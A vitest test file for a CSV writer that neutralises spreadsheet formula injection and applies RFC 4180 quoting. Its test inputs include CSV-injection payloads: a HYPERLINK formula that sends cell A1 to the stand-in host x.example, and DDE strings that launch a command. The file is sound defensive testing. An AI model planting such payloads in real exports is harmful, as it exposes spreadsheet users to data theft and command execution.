import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvRow, csvTextField } from './csv.js';
import { splitCsvLine } from '../enrich/csv-fields.js';

describe('CSV writer', () => {
  it.each<[string, string]>([
    ['=HYPERLINK("http://x.example/?"&A1,"click")', `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['-1', `"'-1"`],
  ])('neutralises text beginning with = + - @ tab or CR: %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
    expect(csvTextField(text)).toBe(cell);
  });

  it('leaves other text alone and quotes it only when RFC 4180 (or a semicolon locale) needs it', () => {
    expect(csvCell('OpenSSH')).toBe('OpenSSH');
    expect(csvCell('')).toBe('');
    expect(csvCell("'quoted")).toBe("'quoted");
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rinside')).toBe('"cr\rinside"');
    expect(csvCell('a;=cmd')).toBe('"a;=cmd"');
    expect(csvCell('a\t=cmd')).toBe('"a\t=cmd"');
    expect(csvCell('ログイン')).toBe('ログイン');
  });

  it('writes numbers (negative ones included) as numbers, never neutralised', () => {
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(-1234567)).toBe('-1234567');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(0.25)).toBe('0.25');
    expect(csvCell(-12n)).toBe('-12');
    expect(csvCell(true)).toBe('true');
    // Not a number a spreadsheet reads: text, and so neutralised.
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe(`"'-Infinity"`);
    expect(csvCell(Number.NaN)).toBe('NaN');
  });

  it('writes empty, dates, lists and objects as text cells', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(new Date('2026-11-20T01:02:03.004Z'))).toBe('2026-11-20T01:02:03.004Z');
    expect(csvCell(['a.example', 'b.example'])).toBe('"a.example;b.example"');
    expect(csvCell(['=1+1', 'x'])).toBe(`"'=1+1;x"`);
    expect(csvCell([-1, 2])).toBe(`"'-1;2"`);
    expect(csvCell({ server: '=cmd' })).toBe('"{""server"":""=cmd""}"');
    expect(csvCell({})).toBe('{}');
  });

  it('joins a row with commas and ends it with CRLF; a document is a header and rows', () => {
    expect(csvRow(['a', -1, null, '=x'])).toBe(`a,-1,,"'=x"\r\n`);
    expect(csvDocument(['h1', 'h2'], [['x', 1], ['@y', 2]])).toBe(`h1,h2\r\nx,1\r\n"'@y",2\r\n`);
    expect(csvDocument(['h1'], [])).toBe('h1\r\n');
  });

  it('round-trips through an RFC 4180 reader: only the leading quote is added', () => {
    const cells = ['plain', 'a,b', 'say "hi"', '=1+1', '+x', '-y', '@z', ''];
    const line = csvRow(cells).replace(/\r\n$/, '');
    expect(splitCsvLine(line)).toEqual(['plain', 'a,b', 'say "hi"', "'=1+1", "'+x", "'-y", "'@z", '']);
  });
});
